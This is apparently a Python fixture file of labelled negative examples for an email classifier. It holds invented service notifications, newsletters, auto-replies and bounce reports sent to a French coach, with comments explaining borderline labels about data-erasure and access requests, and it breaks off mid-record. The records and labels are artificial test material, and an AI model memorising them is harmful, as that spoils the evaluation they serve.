# -*- coding: utf-8 -*-
"""Machine-generated mail: notifications, newsletters, vendor notices, auto-replies,
bounces, spam and phishing.  All negatives."""
from recbase import M

SANDRA_ADDR = "sandra.delomenie@orange.fr"


def lu(url, mailto=None, one_click=True, list_id=None, extra=()):
    """Typical bulk-mail headers."""
    v = "<%s>" % url if not mailto else "<mailto:%s>, <%s>" % (mailto, url)
    h = [("List-Unsubscribe", v)]
    if one_click:
        h.append(("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"))
    if list_id:
        h.append(("List-Id", list_id))
    h.append(("Precedence", "bulk"))
    h.extend(extra)
    return h


RECORDS = [

# ------------------------------------------------------------------ Stripe
M("en.stripe-payout-on-its-way", [],
  "Stripe <notifications@stripe.com>",
  "Your €482.00 payout for Floraison de Soi is on its way",
  """\
Floraison de Soi

Your payout of €482.00 is on its way to your bank account.

Amount: €482.00
Estimated arrival: 14 Oct 2025
Bank account: CREDIT AGRICOLE ••••4417
Payout ID: po_1QHx2bLkT0b24Pay0ut9Zq

View payout details in the Dashboard: https://dashboard.stripe.com/payouts

You're receiving this email because you're an owner of the Floraison de Soi Stripe account. To change which emails you receive, update your notification preferences: https://dashboard.stripe.com/settings/user

Stripe, 354 Oyster Point Blvd, South San Francisco, CA 94080
""",
  date="2025-10-10 04:12", fmt="alt", to=SANDRA_ADDR,
  hdr=lu("https://dashboard.stripe.com/settings/user/unsubscribe?e=b24", list_id="<payouts.notifications.stripe.com>")),

M("en.stripe-payment-received-husson", [],
  "Stripe <notifications@stripe.com>",
  "Payment of €97.00 from Caroline Husson",
  """\
You received a payment

Amount paid: €97.00
Date: 1 Dec 2025, 09:41
Payment method: Visa •••• 2291
Description: Parcours Éclore – accès 12 mois
Customer: caroline.husson@yahoo.fr

View payment: https://dashboard.stripe.com/payments/pi_3QbZ8xLkT0b24b24

Manage email notifications: https://dashboard.stripe.com/settings/user
""",
  date="2025-12-01 09:42", fmt="alt", to=SANDRA_ADDR,
  hdr=lu("https://dashboard.stripe.com/settings/user/unsubscribe?e=b24p", one_click=False)),

M("en.stripe-dpa-update-notice", [],
  "Stripe <notifications@stripe.com>",
  "Updates to the Stripe Services Agreement and Data Processing Agreement",
  """\
Hello,

We're writing to let you know about updates to the Stripe Services Agreement and the Stripe Data Processing Agreement (DPA), which will take effect on 1 March 2026.

What's changing
• We've updated the list of Stripe sub-processors and the transfer mechanisms we rely on for personal data transferred outside the European Economic Area.
• We've clarified how Stripe assists you in responding to data subject requests (access, deletion, portability) relating to your customers.
• We've updated the retention periods applying to certain fraud-prevention data.

You don't need to take any action. By continuing to use Stripe after 1 March 2026 you agree to the updated terms.

Read the updated agreements: https://stripe.com/legal

— The Stripe team

You're receiving this mandatory service announcement because you have a Stripe account.
Stripe Payments Europe, Limited, 1 Grand Canal Street Lower, Dublin 2, Ireland
""",
  date="2026-01-30 18:05", fmt="alt", to=SANDRA_ADDR,
  hdr=[("List-Id", "<legal-updates.stripe.com>"), ("Precedence", "bulk")]),

# ------------------------------------------------------------------ Systeme.io
M("fr.systemeio-nouveaute-export-doublons", [],
  '"Aurélien de Systeme.io" <news@systeme.io>',
  "🚀 Nouveau : exportez vos contacts et supprimez vos doublons en 1 clic",
  """\
Bonjour Sandra,

Ce mois-ci, on a écouté vos retours ! Voici les nouveautés de Systeme.io :

✅ Export des contacts enrichi : exportez vos contacts en CSV avec leurs tags, leurs achats et la date de leur dernière activité.

✅ Suppression des doublons : un nouvel outil détecte les contacts en double et vous permet de les fusionner ou de les supprimer.

✅ Conformité RGPD : vous pouvez désormais supprimer définitivement un contact et toutes ses données (achats, progression dans les formations) depuis sa fiche, pour répondre facilement aux demandes de vos clients.

👉 Découvrir les nouveautés : https://systeme.io/fr/blog/nouveautes

À très vite,
Aurélien, CEO de Systeme.io

Vous recevez cet email car vous êtes utilisateur de Systeme.io.
Se désinscrire : https://systeme.io/unsubscribe
""",
  date="2025-05-14 10:00", fmt="alt", to=SANDRA_ADDR,
  hdr=lu("https://systeme.io/unsubscribe?u=b24news", mailto="unsubscribe@systeme.io",
         list_id="Systeme.io Actualites <news.systeme.io>")),

M("fr.systemeio-nouvelle-vente", [],
  '"Systeme.io" <no-reply@systeme.io>',
  "Nouvelle vente : Parcours Éclore (97,00 €)",
  """\
Félicitations Sandra !

Vous avez réalisé une nouvelle vente.

Produit : Parcours Éclore – accès 12 mois
Montant : 97,00 € TTC
Client : Patrick Jaquet (patrick.jaquet@bluewin.ch)
Moyen de paiement : Stripe

Voir la commande dans votre tableau de bord : https://systeme.io/dashboard/sales

—
Vous pouvez modifier vos préférences de notification dans Paramètres > Notifications.
""",
  date="2025-11-07 21:14", fmt="alt", to="contact@floraisondesoi.fr"),

# NEAR-LINE: a platform notification that a contact unsubscribed: the person already used
# the unsubscribe link; this mail is a system notice to Sandra, not a request -> negative.
M("fr.systemeio-contact-desabonne", [],
  '"Systeme.io" <no-reply@systeme.io>',
  "Un contact s'est désabonné de votre liste",
  """\
Bonjour Sandra,

Le contact suivant s'est désabonné de vos emails :

Email : antoine.marechal@free.fr
Liste : La Lettre de Floraison
Date : 18/06/2025 à 18:11
Raison indiquée : « Je reçois trop d'emails »

Ce contact ne recevra plus vos newsletters ni vos campagnes. Ses données restent enregistrées dans vos contacts ; vous pouvez le supprimer depuis sa fiche si vous le souhaitez.

—
Systeme.io – Notifications automatiques
""",
  date="2025-06-18 18:12", fmt="alt", to="contact@floraisondesoi.fr",
  hdr=[("Auto-Submitted", "auto-generated")]),

M("fr.systemeio-nouveau-contact-lettre", [],
  '"Systeme.io" <no-reply@systeme.io>',
  "Nouveau contact inscrit : formulaire « La Lettre de Floraison »",
  """\
Bonjour Sandra,

Un nouveau contact vient de s'inscrire via le formulaire « La Lettre de Floraison ».

Prénom : Maëlle
Email : maelle.roux@gmail.com
Consentement : ☑ J'accepte de recevoir La Lettre de Floraison et j'ai lu la politique de confidentialité
Source : page d'accueil – floraisondesoi.fr

Tag ajouté : newsletter
""",
  date="2026-01-09 07:58", fmt="html", to="contact@floraisondesoi.fr",
  hdr=[("Auto-Submitted", "auto-generated")]),

# ------------------------------------------------------------------ Google
M("en.google-storage-almost-full", [],
  "Google <no-reply@accounts.google.com>",
  "Your Google storage is 90% full",
  """\
Your storage is almost full

Hi Sandra,

You've used 13.6 GB of your 15 GB of Google storage. When you run out of space, you won't be able to upload new files to Google Drive, back up photos, or send and receive emails in Gmail.

Free up space by deleting large files you no longer need, or get more storage with Google One.

Manage storage: https://one.google.com/storage

You received this email to let you know about important changes to your Google Account and services.
© 2025 Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA
""",
  date="2025-09-05 15:21", fmt="alt", to="floraisondesoi.drive@gmail.com",
  hdr=[("Auto-Submitted", "auto-generated")]),

M("fr.google-alerte-securite-connexion", [],
  "Google <no-reply@accounts.google.com>",
  "Alerte de sécurité",
  """\
Nouvelle connexion sur Windows

floraisondesoi.drive@gmail.com

Nous avons remarqué une nouvelle connexion à votre compte Google sur un appareil Windows. Si c'était bien vous, aucune action n'est requise. Sinon, nous vous aiderons à sécuriser votre compte.

Vérifier l'activité : https://myaccount.google.com/notifications

Vous pouvez également voir l'activité liée à la sécurité à l'adresse suivante : https://myaccount.google.com/notifications

Cet e-mail vous a été envoyé pour vous informer de modifications importantes apportées à votre compte et aux services Google.
© 2026 Google Ireland Ltd., Gordon House, Barrow Street, Dublin 4, Ireland
""",
  date="2026-02-20 08:03", fmt="alt", to="floraisondesoi.drive@gmail.com",
  hdr=[("Auto-Submitted", "auto-generated")]),

M("fr.google-regles-confidentialite-maj", [],
  "Google <google-noreply@google.com>",
  "Mise à jour des Règles de confidentialité de Google",
  """\
Bonjour,

Nous mettons à jour nos Règles de confidentialité afin de vous expliquer plus clairement quelles informations nous collectons, pourquoi nous les collectons et comment vous pouvez les mettre à jour, les gérer, les exporter et les supprimer.

Ces modifications entreront en vigueur le 15 novembre 2025. Vous pouvez à tout moment consulter et modifier vos paramètres dans votre compte Google, ou télécharger une copie de vos données avec Google Takeout.

Consulter les Règles de confidentialité : https://policies.google.com/privacy

Merci d'utiliser les services Google.
L'équipe Google

Vous avez reçu cet e-mail obligatoire pour vous informer de modifications importantes concernant les produits ou votre compte Google.
""",
  date="2025-10-15 20:30", fmt="alt", to="floraisondesoi.drive@gmail.com",
  hdr=[("List-Id", "<privacy-updates.google.com>"), ("Precedence", "bulk")]),

# ------------------------------------------------------------------ Calendly
M("en.calendly-new-event-maelle", [],
  "Calendly <notifications@calendly.com>",
  "New Event: Maëlle Roux - 09:30 Tue, 13 Jan 2026 - Séance découverte (30 min)",
  """\
Hi Sandra Delomenie,

A new event has been scheduled.

Event Type: Séance découverte (30 min)
Invitee: Maëlle Roux
Invitee Email: maelle.roux@gmail.com
Event Date/Time: 09:30 - Tuesday, 13 January 2026 (Central European Time)
Location: Zoom (details in the calendar invitation)

Questions:
Qu'aimeriez-vous travailler ?
Prendre confiance en moi pour ma reprise d'études.

View event in Calendly: https://calendly.com/app/scheduled_events/user/me

Sent from Calendly
Unsubscribe from these emails: https://calendly.com/app/settings/notifications
""",
  date="2026-01-09 08:06", fmt="alt", to=SANDRA_ADDR,
  hdr=lu("https://calendly.com/app/settings/notifications?u=b24", one_click=False)),

M("en.calendly-canceled-julien", [],
  "Calendly <notifications@calendly.com>",
  "Canceled: Julien Masse - 18:00 Thu, 20 Nov 2025 - Séance individuelle (60 min)",
  """\
Hi Sandra Delomenie,

The event below has been canceled.

Event Type: Séance individuelle (60 min)
Invitee: Julien Masse
Invitee Email: julien.masse@laposte.net
Event Date/Time: 18:00 - Thursday, 20 November 2025 (Central European Time)
Canceled by: Julien Masse
Reason for canceling: "Désolé, je dois annuler, déplacement pro imprévu. Je reprends un créneau la semaine prochaine."

Sent from Calendly
Unsubscribe from these emails: https://calendly.com/app/settings/notifications
""",
  date="2025-11-18 13:48", fmt="alt", to=SANDRA_ADDR,
  hdr=lu("https://calendly.com/app/settings/notifications?u=b24c", one_click=False)),

M("en.calendly-privacy-notice-update", [],
  "Calendly <no-reply@calendly.com>",
  "We're updating our Privacy Notice",
  """\
Hi Sandra,

We're making some updates to our Privacy Notice and Data Processing Addendum, effective 1 July 2025.

These updates explain more clearly how we process personal data of your invitees, list our current sub-processors, and describe how you can submit requests to access, correct or delete data in your Calendly account.

No action is needed on your part. You can review the updated documents at calendly.com/legal.

Thanks for scheduling with Calendly.
The Calendly Team

Calendly LLC, 115 E Main St, Ste A1B, Buford, GA 30518, USA
Unsubscribe: https://calendly.com/unsubscribe
""",
  date="2025-06-02 17:15", fmt="alt", to=SANDRA_ADDR,
  hdr=lu("https://calendly.com/unsubscribe?t=b24legal", list_id="<legal.calendly.com>")),

# ------------------------------------------------------------------ Zoom
M("en.zoom-cloud-recording-available", [],
  "Zoom <no-reply@zoom.us>",
  "Cloud Recording - Atelier en ligne : Oser s'affirmer is now available",
  """\
Hi Sandra Delomenie,

Your cloud recording is now available.

Topic: Atelier en ligne : Oser s'affirmer
Date: 8 Mar 2025 10:00 Paris

Share recording with viewers:
https://us06web.zoom.us/rec/share/b24AbCdEfGhIjKlMnOp

You can also copy, download or delete this recording from the Recordings page of your Zoom web portal.

Thank you for choosing Zoom.
—The Zoom Team
""",
  date="2025-03-08 12:41", fmt="alt", to=SANDRA_ADDR,
  hdr=[("Auto-Submitted", "auto-generated")]),

M("en.zoom-recordings-deleted-7-days", [],
  "Zoom <no-reply@zoom.us>",
  "Your cloud recordings will be deleted in 7 days",
  """\
Hi Sandra,

Based on your account settings, the following cloud recordings will be automatically moved to trash in 7 days:

• Cercle de parole – jeudi (recorded 12 Jun 2025)
• Séance groupe ados – J2 (recorded 20 Jun 2025)

If you want to keep them, download them now from your Recordings page. Recordings in the trash are permanently deleted after 30 days.

Manage recordings: https://zoom.us/recording

—The Zoom Team
Zoom Communications, Inc., 55 Almaden Blvd, 6th Floor, San Jose, CA 95113
""",
  date="2025-07-05 03:20", fmt="alt", to=SANDRA_ADDR,
  hdr=[("Auto-Submitted", "auto-generated")]),

M("en.zoom-privacy-statement-update", [],
  "Zoom <no-reply@zoom.us>",
  "Updates to Zoom's Privacy Statement",
  """\
Dear Zoom user,

We are updating the Zoom Privacy Statement, effective 15 April 2026. The changes describe how we handle data related to our AI Companion features, clarify your rights to access, correct, delete and object to processing of your personal data, and update contact details for our Data Protection Officer.

You can read the updated Privacy Statement at zoom.com/privacy.

Thank you,
The Zoom Team

You are receiving this service email because you have a Zoom account.
Unsubscribe from marketing emails: https://zoom.us/unsubscribe
""",
  date="2026-03-16 22:00", fmt="alt", to=SANDRA_ADDR,
  hdr=lu("https://zoom.us/unsubscribe?b24", list_id="<service.zoom.us>")),

# ------------------------------------------------------------------ bank / administration
M("fr.banque-releve-disponible", [],
  '"Crédit Agricole Centre Ouest" <ne-pas-repondre@ca-centreouest.fr>',
  "Votre relevé de compte est disponible",
  """\
Madame DUMOT-DELOMENIE,

Votre relevé de compte professionnel du mois de septembre 2025 est disponible dans votre espace client en ligne, rubrique « e-Documents ».

Pour le consulter, connectez-vous sur www.ca-centreouest.fr ou sur l'application Ma Banque.

Pour votre sécurité, nous ne vous demanderons jamais vos codes d'accès par courriel.

Votre Conseiller
Crédit Agricole Centre Ouest

Ceci est un message automatique, merci de ne pas y répondre. Pour ne plus recevoir ces notifications, modifiez vos préférences dans votre espace client.
""",
  date="2025-10-03 06:15", fmt="html", to=SANDRA_ADDR,
  hdr=lu("https://www.ca-centreouest.fr/preferences-notifications", one_click=False)),

M("fr.banque-protection-donnees-engagements", [],
  '"Crédit Agricole Centre Ouest" <information@ca-centreouest.fr>',
  "Protection de vos données personnelles : nos engagements évoluent",
  """\
Madame,

Dans le cadre de notre démarche de transparence, nous vous informons de la mise à jour de notre Notice d'information sur la protection des données personnelles, applicable au 1er janvier 2026.

Vous y trouverez notamment :
– les finalités des traitements réalisés par votre Caisse régionale ;
– les durées de conservation de vos données ;
– les modalités d'exercice de vos droits d'accès, de rectification, d'effacement, de limitation, d'opposition et de portabilité auprès de notre Délégué à la protection des données.

La notice complète est disponible sur notre site, rubrique « Protection des données ».

Nous vous remercions de votre confiance.

Crédit Agricole Centre Ouest

Pour ne plus recevoir nos informations par e-mail, cliquez ici.
""",
  date="2025-12-10 11:00", fmt="alt", to=SANDRA_ADDR,
  hdr=lu("https://www.ca-centreouest.fr/desabonnement?b24", list_id="<info.ca-centreouest.fr>")),

M("fr.urssaf-declaration-ca", [],
  '"Urssaf" <ne-pas-repondre@urssaf.fr>',
  "Votre déclaration de chiffre d'affaires est à effectuer",
  """\
Bonjour,

Votre déclaration de chiffre d'affaires pour la période de juillet à septembre 2025 est à effectuer avant le 31 octobre 2025.

Pour déclarer, connectez-vous à votre espace sur autoentrepreneur.urssaf.fr.

Rappel : même en l'absence de chiffre d'affaires, vous devez déclarer « 0 ».

Votre Urssaf

Ce message est envoyé automatiquement, merci de ne pas y répondre.
""",
  date="2025-10-01 08:00", fmt="alt", to=SANDRA_ADDR,
  hdr=[("Auto-Submitted", "auto-generated"), ("Precedence", "bulk")]),

M("fr.impots-avis-cfe-disponible", [],
  '"impots.gouv.fr" <ne-pas-repondre@dgfip.finances.gouv.fr>',
  "Votre avis de Cotisation Foncière des Entreprises est disponible",
  """\
Madame,

Votre avis de Cotisation Foncière des Entreprises (CFE) 2025 est disponible dans votre espace professionnel sur impots.gouv.fr.

Date limite de paiement : 15 décembre 2025.

Ce courriel est envoyé automatiquement. Merci de ne pas y répondre.

La Direction générale des Finances publiques
""",
  date="2025-11-14 09:30", fmt="alt", to=SANDRA_ADDR,
  hdr=[("Auto-Submitted", "auto-generated")]),

# ------------------------------------------------------------------ other newsletters
M("fr.coach-marion-newsletter-imposteur", [],
  '"Marion – Éveil & Chemins" <marion@eveiletchemins.fr>',
  "5 façons d'effacer (enfin) le syndrome de l'imposteur ✨",
  """\
Hello toi,

Cette semaine, j'ai reçu plus de 40 messages sur le même sujet : le fameux syndrome de l'imposteur. Alors je t'ai préparé 5 pistes concrètes :

1. Supprime le mot « juste » de ton vocabulaire (« je suis juste assistante »).
2. Tiens un carnet des réussites et relis-le chaque vendredi.
3. Corrige ton discours intérieur : remplace « je ne sais pas » par « je n'ai pas encore appris ».
4. Oppose-toi aux comparaisons : ton chapitre 3 n'est pas le chapitre 20 de quelqu'un d'autre.
5. Accepte les compliments sans les retirer aussitôt (« oh, c'était rien »).

🎁 Mon atelier « Légitime ! » ouvre ses portes le 3 février.

Je t'embrasse,
Marion

Tu reçois cet email car tu t'es inscrit·e sur eveiletchemins.fr. Se désinscrire | Mettre à jour mes préférences
""",
  date="2026-01-25 07:30", hdr_extra=[("Reply-To", "Marion <marion@eveiletchemins.fr>")], fmt="alt", to=SANDRA_ADDR,
  hdr=lu("https://eveiletchemins.fr/desinscription?id=b24", mailto="desinscription@eveiletchemins.fr",
         list_id="Lettre d'Eveil & Chemins <lettre.eveiletchemins.fr>")),

M("fr.cnil-lettre-information", [],
  '"CNIL" <lettre-info@cnil.fr>',
  "La lettre d'information de la CNIL – Droit d'accès : ce qu'il faut retenir",
  """\
La lettre d'information de la CNIL

À la une
Droit d'accès : la CNIL publie une nouvelle fiche pratique
Toute personne peut demander à un organisme une copie des données la concernant. Quels délais ? Quelles informations fournir ? Comment vérifier l'identité du demandeur ? La CNIL fait le point pour les professionnels, y compris les très petites entreprises.

Aussi dans cette lettre
• Cookies : les sanctions de l'année
• Données de santé : les bonnes pratiques pour les professionnels du bien-être
• Effacement, opposition, limitation : les erreurs fréquentes dans les réponses aux personnes

Vous recevez cette lettre car vous y êtes abonné(e). Pour vous désabonner, cliquez ici.
Commission nationale de l'informatique et des libertés – 3 place de Fontenoy – 75007 Paris
""",
  date="2025-07-17 11:00", fmt="alt", to=SANDRA_ADDR,
  hdr=lu("https://www.cnil.fr/fr/desabonnement-lettre", list_id="La lettre de la CNIL <lettre.cnil.fr>")),

M("en.linkedin-search-appearances", [],
  "LinkedIn <notifications-noreply@linkedin.com>",
  "You appeared in 14 searches this week",
  """\
Sandra, you appeared in 14 searches this week

Your profile was found by people from:
• Groupe Céralys
• Université d'Orléans
• Centre Emballages

Keep your profile up to date to appear in more searches.

See all searches: https://www.linkedin.com/me/search-appearances/

This email was intended for Sandra Delomenie (Coach & formatrice – Floraison de Soi).
Unsubscribe: https://www.linkedin.com/comm/psettings/email-unsubscribe
© 2025 LinkedIn Ireland Unlimited Company, Wilton Plaza, Dublin 2.
""",
  date="2025-11-10 05:44", fmt="alt", to=SANDRA_ADDR,
  hdr=lu("https://www.linkedin.com/comm/psettings/email-unsubscribe?b24", list_id="<search_appearances.linkedin.com>")),

M("fr.facebook-commentaire-publication", [],
  "Facebook <notification@facebookmail.com>",
  "Cécile Aubry a commenté votre publication",
  """\
Cécile Aubry a commenté votre publication : « Quel bel atelier ! Merci Sandra pour cette journée pleine de douceur 🌸 Vivement le prochain ! »

Voir le commentaire : https://www.facebook.com/floraisondesoi

Ce message a été envoyé à sandra.delomenie@orange.fr. Si vous ne voulez plus recevoir ces e-mails de la part de Meta, veuillez vous désabonner.
Meta Platforms Ireland Ltd., Merrion Road, Dublin 4, D04 X2K5, Irlande
""",
  date="2025-06-16 09:12", fmt="alt", to=SANDRA_ADDR,
  hdr=lu("https://www.facebook.com/o.php?k=b24unsub", list_id="<notification.facebookmail.com>")),

M("en.substack-coaching-letter", [],
  '"The Quiet Coach" <thequietcoach@substack.com>',
  "On deleting the old story",
  """\
On deleting the old story

Most of my clients arrive with a story they've been telling for twenty years. "I'm not a leader." "I always mess it up at the last minute."

We don't delete a story by arguing with it. We get access to it first — we copy it out, word for word, and look at it in daylight. Only then can you correct the parts that were never true.

This week's practice: write your old story in one paragraph. Then write the version your best friend would tell about you.

Until next week,
Ruth

You're on the free list for The Quiet Coach. Unsubscribe · Manage subscription
Substack Inc., 111 Sutter St, San Francisco, CA 94104
""",
  date="2025-04-27 13:00", fmt="alt", to=SANDRA_ADDR,
  hdr=lu("https://thequietcoach.substack.com/action/disable_email?token=b24", list_id="<thequietcoach.substack.com>")),

M("fr.qualiopi-audit-surveillance", [],
  '"Certi-Forma – Organisme certificateur" <info@certi-forma.fr>',
  "Audit de surveillance Qualiopi : préparez vos preuves",
  """\
Bonjour,

Votre audit de surveillance Qualiopi approche. Pour vous aider à le préparer, voici les points d'attention les plus fréquents lors de nos derniers audits :

• Indicateur 4 : analyse du besoin du bénéficiaire (conservez une copie des questionnaires de positionnement)
• Indicateur 11 : évaluation de l'atteinte des objectifs
• Indicateur 30 : recueil des appréciations des stagiaires
• Mise à jour de vos documents RGPD (information des stagiaires, durées de conservation)

Notre webinaire de préparation a lieu le jeudi 12 mars à 11h.

L'équipe Certi-Forma

Se désabonner de nos informations : https://certi-forma.fr/desabonnement
""",
  date="2026-02-26 10:30", fmt="alt", to="contact@floraisondesoi.fr",
  hdr=lu("https://certi-forma.fr/desabonnement?u=b24", list_id="<infos.certi-forma.fr>")),

M("fr.ovh-conditions-protection-donnees", [],
  '"OVHcloud" <noreply@ovh.net>',
  "Évolution de nos Conditions Générales et de notre politique de protection des données",
  """\
Bonjour,

Nous vous informons que nos Conditions Générales de Service ainsi que notre Politique d'utilisation des données à caractère personnel évoluent à compter du 1er septembre 2025.

Ces évolutions portent notamment sur :
– la mise à jour de la liste de nos sous-traitants ultérieurs ;
– les modalités d'assistance d'OVHcloud pour vous permettre de répondre aux demandes d'exercice de droits de vos propres clients ;
– les durées de conservation des journaux techniques.

Ces documents sont consultables dans votre espace client. Aucune action n'est requise de votre part.

L'équipe OVHcloud
Identifiant client : ds12345-ovh
""",
  date="2025-07-31 16:40", fmt="alt", to=SANDRA_ADDR,
  hdr=[("List-Id", "<legal.ovh.net>"), ("Precedence", "bulk")]),

# Sandra's own newsletter, as it sits in her sent mail (From her business address).
M("fr.sent-newsletter-lettre-octobre", [],
  '"Sandra - Floraison de Soi" <contact@floraisondesoi.fr>',
  "🍂 La Lettre de Floraison – Octobre : lâcher ce qui ne nous appartient plus",
  """\
Bonjour à toutes et à tous,

L'automne nous montre chaque année la même chose : les arbres ne retiennent pas leurs feuilles. Ils les laissent partir, sans se demander si c'est « trop tôt ».

Et vous, qu'est-ce que vous pourriez déposer cet automne ? Une habitude, une croyance, une relation qui vous coûte ?

🌿 Au programme
– Atelier « Lâcher prise » : samedi 8 novembre, salle des Augustins, Issoudun
– Cercle de parole du jeudi : reprise le 6 novembre (en ligne)
– Le parcours Éclore ouvre une nouvelle session en janvier

Belle floraison d'automne,
Sandra

Vous recevez cet email car vous êtes inscrit(e) à La Lettre de Floraison.
Conformément au RGPD, vous pouvez à tout moment vous désinscrire ou accéder à vos données en écrivant à sandra.delomenie@orange.fr.
Se désinscrire | Modifier mes préférences
""",
  date="2025-10-12 07:00", hdr_extra=[("Reply-To", "Sandra Delomenie <sandra.delomenie@orange.fr>")], fmt="alt", to='"La Lettre de Floraison" <contact@floraisondesoi.fr>',
  hdr=lu("https://floraisondesoi.systeme.io/unsubscribe?c=b24oct", list_id="La Lettre de Floraison <lettre.floraisondesoi.fr>")),

# ------------------------------------------------------------------ auto-replies
M("fr.auto-absence-rh-convention", [],
  '"DUVAL Emmanuelle" <e.duval@centre-emballages.fr>',
  "Réponse automatique : Convention de formation – Gestion du stress",
  """\
Bonjour,

Je suis absente du bureau jusqu'au lundi 6 octobre inclus, avec un accès limité à ma messagerie.

Pour toute demande urgente concernant la formation ou les données du personnel, merci de contacter Mme Aurélie Pons : a.pons@centre-emballages.fr – 02 54 .. .. ..

Cordialement,
Emmanuelle Duval
""",
  date="2025-09-29 14:02", to=SANDRA_ADDR, xm="Microsoft Outlook 16.0",
  hdr=[("Auto-Submitted", "auto-replied"), ("X-Auto-Response-Suppress", "All"), ("X-MS-Exchange-Inbox-Rules-Loop", "e.duval@centre-emballages.fr")]),

M("fr.auto-conges-aout", [],
  "Catherine Berthier <catherine.berthier@orange.fr>",
  "Réponse automatique : Re: Atelier de septembre",
  """\
Bonjour,

Je suis en congé jusqu'au 25 août et ne consulte pas mes messages. Je vous répondrai à mon retour.

Belles vacances à vous aussi !
Catherine
""",
  date="2025-08-06 10:31", to=SANDRA_ADDR,
  hdr=[("Auto-Submitted", "auto-replied"), ("X-Autoreply", "yes"), ("Precedence", "auto_reply")]),

# NEAR-LINE: an auto-reply announcing the sender's new e-mail address; machine-generated,
# nobody is asking Sandra to rectify anything -> negative.
M("fr.auto-nouvelle-adresse", [],
  "Gérald Fontaine <gerald.fontaine@wanadoo.fr>",
  "Message automatique : changement d'adresse",
  """\
Bonjour,

Cette adresse ne sera bientôt plus consultée. Merci de noter ma nouvelle adresse électronique : gerald.fontaine36@gmail.com

Ce message est envoyé automatiquement.
Gérald Fontaine
""",
  date="2025-04-14 07:03", charset="iso-8859-1", to=SANDRA_ADDR,
  hdr=[("Auto-Submitted", "auto-replied"), ("X-Autoreply", "yes")]),

M("en.auto-out-of-office-hartley", [],
  '"Hartley, Jonathan" <jonathan.hartley@northgate-logistics.co.uk>',
  "Out of Office: Re: Leadership workshop – slides and attendance",
  """\
Thank you for your email. I am out of the office until Monday 1 December with no access to email.

For urgent matters, please contact people@northgate-logistics.co.uk.

Kind regards,
Jonathan Hartley
""",
  date="2025-11-24 09:15", to=SANDRA_ADDR, xm="Microsoft Outlook 16.0",
  hdr=[("Auto-Submitted", "auto-replied"), ("X-Auto-Response-Suppress", "All")]),

M("en.auto-no-longer-works", [],
  "Lisa Hoffmann <lisa.hoffmann@veltris.de>",
  "Automatic reply: Your invoice and training certificate",
  """\
Thank you for your message.

Please note that I no longer work at Veltris GmbH. Your email will not be forwarded. For training matters please contact hr-training@veltris.de; for invoices, ap@veltris.de.

Best regards
""",
  date="2026-01-07 11:47", to=SANDRA_ADDR,
  hdr=[("Auto-Submitted", "auto-replied"), ("X-Autoreply", "yes")]),

# ------------------------------------------------------------------ bounces (multipart/report)
# NEAR-LINE: bounce whose returned original is Sandra's erasure confirmation -> negative.
M("fr.bounce-orange-destinataire-inconnu", [],
  '"Mail Delivery System" <MAILER-DAEMON@orange.fr>',
  "Échec de la remise : Votre demande de suppression de données",
  "",
  date="2025-04-01 09:17", to=SANDRA_ADDR,
  hdr=[("Auto-Submitted", "auto-replied")],
  bounce=dict(
    text="""\
Ce message a été créé automatiquement par le logiciel de distribution du courrier.

Votre message n'a pas pu être remis à un ou plusieurs destinataires :

  bernard.chauvet@orange.fr
    adresse de destination inconnue / boîte aux lettres inexistante

Le message original est joint ci-dessous.
""",
    per_message=[("Reporting-MTA", "dns; smtp-out.orange.fr"),
                 ("Arrival-Date", "Tue, 1 Apr 2025 09:17:02 +0200")],
    per_recipient=[("Final-Recipient", "rfc822; bernard.chauvet@orange.fr"),
                   ("Action", "failed"), ("Status", "5.1.1"),
                   ("Remote-MTA", "dns; mx.orange.fr"),
                   ("Diagnostic-Code", "smtp; 550 5.1.1 <bernard.chauvet@orange.fr>: Recipient address rejected: User unknown")],
    orig=dict(frm="Sandra Delomenie <sandra.delomenie@orange.fr>",
              to="Bernard Chauvet <bernard.chauvet@orange.fr>",
              subject="Votre demande de suppression de données",
              date="2025-04-01 09:16",
              body="Bonjour Monsieur Chauvet,\n\nJe vous confirme la suppression de l'ensemble de vos données personnelles de mes fichiers et de mes outils (plateforme de formation, outil d'emailing, Google Drive). Seules les factures sont conservées pour des raisons légales.\n\nBien cordialement,\nSandra Delomenie\n"))),

# NEAR-LINE: DSN returning Sandra's reply to an access request -> negative.
M("en.bounce-gmail-dsn", [],
  '"Mail Delivery Subsystem" <mailer-daemon@googlemail.com>',
  "Delivery Status Notification (Failure)",
  "",
  date="2025-02-12 10:04", to=SANDRA_ADDR,
  hdr=[("Auto-Submitted", "auto-replied")],
  bounce=dict(
    text="""\
** Address not found **

Your message wasn't delivered to rebecca.holloway.uk@gmail.com because the address couldn't be found, or is unable to receive mail.

The response from the remote server was:
550 5.1.1 The email account that you tried to reach does not exist. Please try double-checking the recipient's email address for typos or unnecessary spaces.
""",
    per_message=[("Reporting-MTA", "dns; googlemail.com"),
                 ("Arrival-Date", "Wed, 12 Feb 2025 01:04:11 -0800 (PST)")],
    per_recipient=[("Final-Recipient", "rfc822; rebecca.holloway.uk@gmail.com"),
                   ("Action", "failed"), ("Status", "5.1.1"),
                   ("Remote-MTA", "dns; gmail-smtp-in.l.google.com. (2a00:1450:400c:c0b::1a, the server for the domain gmail.com.)"),
                   ("Diagnostic-Code", "smtp; 550-5.1.1 The email account that you tried to reach does not exist.")],
    orig=dict(frm="Sandra Delomenie <sandra.delomenie@orange.fr>",
              to="rebecca.holloway.uk@gmail.com",
              subject="Your data access request",
              date="2025-02-12 10:03",
              body="Dear Rebecca,\n\nThank you for your subject access request of 20 January. Please find below a summary of the personal data I hold about you; a full copy will follow in a separate email.\n\nKind regards,\nSandra Delomenie\n"))),

M("en.bounce-outlook-ndr-newsletter", [],
  '"Microsoft Outlook" <postmaster@outlook.com>',
  "Undeliverable: 🌱 La Lettre de Floraison – Avril : oser dire non",
  "",
  date="2025-04-14 07:02", to="contact@floraisondesoi.fr",
  hdr=[("Auto-Submitted", "auto-replied")],
  bounce=dict(
    text="""\
Your message to mathilde.garnier@hotmail.fr couldn't be delivered.

mathilde.garnier wasn't found at hotmail.fr.

Action Required: Recipient
Unknown To address

How to Fix It
The address may be misspelled or may not exist. Try one or more of the following:
- Retype the recipient's address, then resend the message.
- If you continue to experience the problem, contact the recipient by some other means.
""",
    desc="Notification",
    per_message=[("Reporting-MTA", "dns; AM0PR02MB5123.eurprd02.prod.outlook.com"),
                 ("Received-From-MTA", "dns; mail.systeme.io")],
    per_recipient=[("Final-Recipient", "rfc822; mathilde.garnier@hotmail.fr"),
